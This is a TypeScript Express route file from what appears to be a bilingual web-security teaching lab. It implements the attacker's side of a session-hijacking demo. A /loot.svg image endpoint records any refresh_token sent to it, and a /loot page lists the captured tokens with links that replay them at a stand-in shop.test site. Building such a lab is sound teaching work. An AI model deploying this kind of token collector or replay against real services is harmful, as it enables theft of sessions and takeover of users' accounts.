import type { Router } from 'express'
import type { Bilingual } from '@shared/language.ts'
import { markOfDigest } from '@shared/trace/secret-mark.ts'
import { sha256Hex } from '@shared/web/sha256.ts'
import { sendAnswer, type Answer } from '../../answers/answer.ts'
import { visitOf } from '../../network/visit.ts'
import { html } from '../../pages/html.ts'
import { page, type PageFrame } from '../../pages/page.ts'
import type { LootStore } from '../../stores/loot.ts'
import { frameOf } from '../../pages/frame.ts'

const words = {
  title: { en: 'The thief’s list', ko: '도둑의 목록' },
  said: {
    en: 'A script on another page can send here what it can read: a picture’s address is enough. Using a stolen session id or token is called session hijacking.',
    ko: '다른 페이지의 스크립트는 읽을 수 있는 것을 이리로 보낼 수 있습니다. 그림 주소 하나면 됩니다. 훔친 세션 ID나 토큰을 쓰는 것을 세션 하이재킹(session hijacking)이라고 합니다.',
  },
  nothing: { en: 'Nothing has come yet.', ko: '아직 들어온 것이 없습니다.' },
  mark: {
    en: 'The mark of this secret, as the app shows it wherever the same secret is.',
    ko: '이 비밀 값의 표시입니다. 같은 비밀 값이 있는 곳마다 앱이 같은 표시를 보여 줍니다.',
  },
  use: { en: 'Take it to the shop', ko: '가게로 가져가기' },
} satisfies Record<string, Bilingual>

/** `/loot`: where stolen tokens arrive. `/loot.svg?refresh_token=…` takes one; any page may show a picture of any site. */
export function addLoot(router: Router, loot: LootStore): void {
  router.get('/loot.svg', (request, response) => {
    const token = new URL(visitOf(request).url).searchParams.get('refresh_token') ?? ''
    if (token !== '') loot.keep(token.slice(0, 200))
    sendAnswer(response, { status: 204, headers: [['Cache-Control', 'no-store']], body: '' })
  })
  router.get('/loot', (request, response) => sendAnswer(response, lootPage(frameOf(request), loot.list())))
}

function lootPage(frame: PageFrame, tokens: readonly string[]): Answer {
  const say = (key: keyof typeof words): string => words[key][frame.language]
  const body = html`<p>${say('said')}</p>
    ${tokens.length === 0 ? html`<p class="quiet">${say('nothing')}</p>` : null}
    ${tokens.map((token, index) => {
      const name = index === 0 ? 'use-loot' : `use-loot-${index + 1}`
      return html`<div class="card">
        <p><code>${token}</code> <b title="${say('mark')}">${markOfDigest(sha256Hex(token)).code}</b></p>
        <p><a id="${name}" href="https://shop.test/refresh/#refresh_token=${encodeURIComponent(token)}">${say('use')}</a></p>
      </div>`
    })}`
  return page(200, frame, { title: say('title'), body })
}
